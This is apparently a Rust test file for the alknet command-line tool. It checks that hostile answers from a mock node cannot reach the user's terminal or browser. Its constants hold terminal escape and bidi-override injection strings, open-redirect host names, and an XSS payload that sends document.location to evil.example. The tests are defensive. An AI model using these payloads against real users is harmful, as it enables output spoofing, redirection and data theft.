//! A node whose answers attack its users' terminals and browsers.

mod attacking_answers;

use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::process::Command;

use alknet_tests::{CliOutput, CliRunner, binary, run_with_input};
use serde_json::json;
use tokio::task::block_in_place;

use super::dialling_verbs::left_out;
use super::lying_files::LINES;
use attacking_answers::LyingNode;

/// Clears the screen, sets a title, forges a line, erases one, reverses the text direction, and clears the screen
/// again with a single 8-bit character.
pub(super) const ACTS: &str =
    "x\u{1b}[2J\u{1b}]0;title\u{7}\r\nhealth     ok\u{8}\u{202e}\u{9b}2J\u{7f}";

/// The beginning of its second line, like a line of `alknet status`.
const FORGED: &str = "health     ok";

/// Texts that lead a browser elsewhere, or make it run a script in a page of the user's computer.
pub(crate) const PATHS: [&str; 5] = [
    "@evil.example/status/enter/0123456789abcdef0123456789abcdef0123456789a",
    ".evil.example/",
    "/status/enter/\"><script>fetch('//evil.example/'+document.location)</script>",
    "/status/enter/0123456789abcdef\u{1b}]8;;https://evil.example\u{7}",
    "",
];

/// Links that a browser may follow, at the dialled host: to the status page, and one that does something there.
pub(crate) const TICKET: &str = "0123456789abcdefABCDEF_-0123456789abcdefABC";
pub(crate) const ENTERS: &str = "/status/enter/";
const ACTS_BY_LINK: &str = "/status/act/";

/// Names that lead a browser elsewhere, or make it run a script, if they become the host of a link.
pub(crate) const NAMES: [&str; 8] = [
    "evil.example",
    "evil.example/\"><script>alert(1)</script>",
    "evil.example/x?",
    "evil.example#",
    "localhost@evil.example",
    "localhost:443@evil.example",
    "localhost.evil.example",
    ACTS,
];

/// Runs a command beside the node in this process.
pub(crate) async fn run(cli: &CliRunner, mut arguments: Vec<String>) -> CliOutput {
    arguments.push("--state".to_owned());
    arguments.push(cli.state().display().to_string());
    run_alone(arguments).await
}

/// The same for verbs that use no node.
async fn run_alone(arguments: Vec<String>) -> CliOutput {
    let run = move || {
        let mut command = Command::new(binary());
        command.args(arguments);
        // The folder that scripts are read from.
        run_with_input(command, "1\n")
    };
    tokio::task::spawn_blocking(run).await.expect("it runs")
}

fn has_control_or_bidi(text: &str) -> bool {
    let turns = |c: char| {
        let marks = ['\u{61c}', '\u{200e}', '\u{200f}'];
        marks.contains(&c) || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    text.chars()
        .any(|c| (c.is_control() && c != '\n') || turns(c))
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_a_node_says_acts_on_a_terminal() {
    let folder = tempfile::tempdir().expect("a folder");
    let node = LyingNode::start(PATHS[0]);
    let (target, join) = (node.target(), node.join());
    let at = |name: &str| folder.path().join(name).display().to_string();
    let (document, batch, draft) = (at("document.toml"), at("batch"), proposal(folder.path()));
    std::fs::write(&document, "").expect("the folder is ours");
    let calls = ["node/info", "evil/refused"].map(|name| format!("{{\"operation\":\"{name}\"}}\n"));
    std::fs::write(&batch, calls.concat()).expect("the folder is ours");
    let id = "3f".repeat(32);
    let (output, tensors) = (at("out.mt"), at("in.safetensors"));
    std::fs::write(&tensors, container("ours", "w")).expect("the folder is ours");
    let mut tried = Vec::new();
    for (n, (arguments, says_much)) in [
        (&["status", "@"][..], true),
        (&["call", "@", "node/info"], true),
        (&["call", "@", "node/log"], true),
        (&["call", "@", "node/info", "--also", "@"], true),
        (&["call", "@", "evil/refused"], false),
        // It forwards nothing, and is asked for its peers.
        (&["status", "@", "--peer", "kitchen"], true),
        (&["logs", "@"], true),
        (&["ops", "@"], true),
        (&["ops", "@", "node/info"], true),
        (&["peers", "@"], true),
        (&["js", "run", "@", "-"], true),
        (&["js", "repl", "@"], true),
        (&["vault", "status", "@"], true),
        (&["token", "list", "@"], true),
        (&["hub", "peers", "@"], true),
        (&["escrow", "list", "@"], true),
        (&["config", "apply", "@", "?"], true),
        (&["file", "list", "@"], true),
        (&["file", "show", "@", "site/www"], true),
        (&["file", "add", "@", "root/lab", "?"], true),
        (&["config", "show", "@"], true),
        (&["peer", "add", "@", "ada", "--key", "a-key"], true),
        (&["peer", "set", "@", "ada", "--disable"], true),
        (&["peer", "remove", "@", "ada"], true),
        (&["pin", "@", "--peer", "kitchen"], true),
        (&["open", "--print", "@"], false),
        (&["hub", "invite", "@"], true),
        (&["hub", "approve", "@", "a-key"], true),
        (&["hub", "label", "@", "edge", "a=b"], true),
        (&["hub", "remove", "@", "edge"], true),
        (&["token", "make", "@", "--scope", "node:read"], true),
        // The output repeats the arguments.
        (&["token", "revoke", "@", "abcdefgh"], false),
        (&["key", "rotate", "@"], true),
        (&["ops", "propose", "@", "DRAFT", "--as", "ada"], true),
        (&["ops", "proposals", "@"], true),
        (&["ops", "promote", "@", "ID"], true),
        (&["ops", "rollback", "@", "js/a/b"], true),
        (&["escrow", "approve", "@", "share"], true),
        (&["escrow", "change", "@", "share", "--anywhere"], true),
        (&["escrow", "revoke", "@", "share"], true),
        (&["call", "@", "--batch", "BATCH"], true),
        (&["tensor", "pull", "@", "models/bert", "OUTPUT"], true),
        // What was asked for is repeated.
        (&["tensor", "remove", "@", "models/bert"], false),
        (&["file", "remove", "@", "site/www"], false),
        (&["tensor", "stored", "@"], true),
        (&["vault", "lock", "@"], true),
        (&["credential", "list", "@"], true),
        (&["credential", "show", "@", ACTS], true),
        (&["escrow", "show", "@", ACTS], true),
        (&["hub", "show", "@", ACTS], true),
        (&["peer", "show", "@", ACTS], true),
        (&["token", "show", "@", ACTS], true),
        (&["js", "types", "@"], true),
        (&["ops", "list", "@"], true),
        (&["ops", "show", "@", "node/info"], true),
        (&["tensor", "push", "@", "TENSORS", "models/bert"], true),
        (&["poweroff", "@", "--yes"], false),
        (&["reboot", "@", "--yes"], false),
        (&["update", "@", "--stage"], true),
        (&["update", "status", "@"], true),
        (&["update", "log", "@"], true),
        (&["update", "confirm", "@"], false),
        (&["update", "cancel", "@"], false),
        (&["disk", "list", "@"], true),
        (&["disk", "check", "@"], true),
        (&["rollback", "@", "--yes"], true),
        // Refused and accepted answers.
        (&["enroll", "JOIN"], true),
        (&["enroll", "JOIN"], true),
    ]
    .into_iter()
    .chain(LINES)
    .enumerate()
    {
        tried.push(arguments);
        for json in [false, true] {
            // Each with a separate key, because one verb replaces it.
            let cli = CliRunner::new(folder.path().join(format!("{n}-{json}")));
            if arguments[0] == "key" {
                // There must be one to replace.
                block_in_place(|| cli.identity());
            }
            let said = |one: &&str| match *one {
                "BATCH" => batch.clone(),
                "BRANCH" => "docs@draft".to_owned(),
                "DRAFT" => draft.display().to_string(),
                "ID" => id.clone(),
                "JOIN" => join.clone(),
                "OUTPUT" => output.clone(),
                "TENSORS" => tensors.clone(),
                one => one.replace('@', &target).replace('?', &document),
            };
            let mut all: Vec<_> = arguments.iter().map(said).collect();
            if json {
                all.insert(0, "--json".to_owned());
            }
            let answer = run(&cli, all).await;
            let (said, failed) = (&answer.output, &answer.errors);
            assert!(
                !has_control_or_bidi(said) && !has_control_or_bidi(failed),
                "{arguments:?}: {answer:?}"
            );
            // The node got the request, and answered.
            let shown = format!("{said}{failed}");
            assert!(
                shown.contains("title") || !says_much,
                "{arguments:?}: {answer:?}"
            );
            // A script's own words may have several lines.
            let has_lines = arguments[0] == "js";
            let forged = shown.lines().any(|line| line.starts_with(FORGED));
            assert!((has_lines && !json) || !forged, "{arguments:?}: {answer:?}");
        }
    }
    // A verb that comes later has to be tried as well.
    let left_out = block_in_place(|| left_out(&tried));
    assert!(left_out.is_empty(), "{left_out:?}");
}

/// The list has new rows on every page, the same row, or none. The command still ends, and reports that this is not
/// a list.
#[tokio::test(flavor = "multi_thread")]
async fn a_list_of_proposals_without_end_is_ended() {
    /// The most that a node keeps (docs/promotion.md, "Limits").
    const KEPT_MAX: usize = 4096;
    let folder = tempfile::tempdir().expect("a folder");
    let cli = CliRunner::new(folder.path().to_owned());
    let node = LyingNode::start("");
    for (state, rows) in [("promoted", KEPT_MAX), ("rejected", 1), ("retired", 0)] {
        let words = ["--json", "ops", "proposals", "--only", state];
        let mut all: Vec<_> = words.map(str::to_owned).to_vec();
        all.push(node.target());
        let answer = run(&cli, all).await;
        assert_eq!(
            answer.code(),
            "INVALID_OUTPUT",
            "{state}: {}",
            answer.errors
        );
        assert_eq!(answer.output.lines().count(), rows, "{state}");
    }
}

/// A folder that can be proposed.
fn proposal(folder: &Path) -> PathBuf {
    let draft = folder.join("draft");
    let operation = json!({
        "spec": { "name": "one", "kind": "query" }, "entry": "./main.js", "export": "run",
        "tests": [{ "input": 1, "expect": { "output": 1 } }],
    });
    std::fs::create_dir(&draft).expect("the folder is ours");
    std::fs::write(draft.join("operation.json"), operation.to_string()).expect("room");
    std::fs::write(draft.join("main.js"), "export const run = () => 1;").expect("room");
    draft
}

/// A file with one tensor of this name.
fn container(said: &str, name: &str) -> Vec<u8> {
    let tensor = json!({ "dtype": "U8", "shape": [2], "data_offsets": [0, 2] });
    let mut header = json!({ "__metadata__": { "said": said }, name: tensor }).to_string();
    while !header.len().is_multiple_of(8) {
        header.push(' ');
    }
    let mut bytes = (header.len() as u64).to_le_bytes().to_vec();
    bytes.extend(header.as_bytes());
    bytes.extend([7, 8]);
    bytes
}

/// Data fetched from a node may be anything that fits into a container.
#[tokio::test(flavor = "multi_thread")]
async fn nothing_in_a_file_of_tensors_acts_on_a_terminal() {
    let folder = tempfile::tempdir().expect("a folder");
    // No name has a control character, because readers refuse such a file.
    let name = "title\u{202e}\u{2066}\u{200f}\u{2028}";
    let [first, second] = [("first", ACTS), ("second", "title")].map(|(file, said)| {
        let file = folder.path().join(format!("{file}.safetensors"));
        let ending = if said == ACTS { "" } else { said };
        let bytes = container(said, &format!("{name}{ending}"));
        std::fs::write(&file, bytes).expect("the folder is ours");
        file.display().to_string()
    });
    for verb in [
        &["ls", "1"][..],
        &["hash", "1"],
        &["diff", "1", "2"],
        &["verify", "1"],
        &["cat", "1", "title"],
        &["cat", "1", name],
    ] {
        for json in [false, true] {
            let mut all = vec!["tensor".to_owned()];
            all.extend(verb.iter().map(|word| match *word {
                "1" => first.clone(),
                "2" => second.clone(),
                word => word.to_owned(),
            }));
            if json {
                all.insert(0, "--json".to_owned());
            }
            let answer = run_alone(all).await;
            let (said, failed) = (&answer.output, &answer.errors);
            let is_bytes = verb == ["cat", "1", name] && !json;
            assert!(
                is_bytes || !has_control_or_bidi(said),
                "{verb:?}: {answer:?}"
            );
            assert!(!has_control_or_bidi(failed), "{verb:?}: {answer:?}");
            let shows = !is_bytes && verb[0] != "verify";
            assert!(
                !shows || format!("{said}{failed}").contains("title"),
                "{verb:?}: {answer:?}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_link_that_leads_elsewhere_is_not_opened() {
    let folder = tempfile::tempdir().expect("a folder");
    let cli = CliRunner::new(folder.path().to_owned());
    for path in PATHS {
        let node = LyingNode::start(path);
        for more in [&[][..], &["--action", "lock"]] {
            let mut all = vec!["open".to_owned(), "--print".to_owned(), node.target()];
            all.extend(more.iter().map(|one| (*one).to_owned()));
            let answer = run(&cli, all).await;
            assert_ne!(answer.status, 0, "{path:?}: {answer:?}");
            assert!(answer.output.is_empty(), "{path:?}: {answer:?}");
        }
    }
}

/// The path comes from the link. Whatever names the node reports, a browser is led to the dialled host, by its
/// address or by its name.
#[tokio::test(flavor = "multi_thread")]
async fn names_of_a_node_are_no_part_of_a_link() {
    let folder = tempfile::tempdir().expect("a folder");
    let cli = CliRunner::new(folder.path().to_owned());
    for (begins, more) in [(ENTERS, &[][..]), (ACTS_BY_LINK, &["--action", "lock"])] {
        let path = format!("{begins}{TICKET}");
        let node = LyingNode::start(&path);
        let port = node.port();
        let by_address = node.target();
        let by_name = by_address.replace(&Ipv4Addr::LOCALHOST.to_string(), "localhost");
        for (target, hosts) in [
            (by_address, &["127.0.0.1"][..]),
            (by_name, &["127.0.0.1", "[::1]", "localhost"]),
        ] {
            let links = hosts
                .iter()
                .map(|host| format!("https://{host}:{port}{path}"));
            let links: Vec<_> = links.collect();
            for json in [false, true] {
                let mut all = vec!["open".to_owned(), "--print".to_owned(), target.clone()];
                all.extend(more.iter().map(|one| (*one).to_owned()));
                if json {
                    all.insert(0, "--json".to_owned());
                }
                let answer = run(&cli, all).await;
                assert_eq!(answer.status, 0, "{target}: {answer:?}");
                let said = match json {
                    true => answer.json()["url"].as_str().unwrap_or_default().to_owned(),
                    false => answer.output.trim_end().to_owned(),
                };
                assert!(links.contains(&said), "{target}: {answer:?}");
                let shown = format!("{}{}", answer.output, answer.errors);
                assert!(!shown.contains("evil"), "{target}: {answer:?}");
            }
        }
    }
}
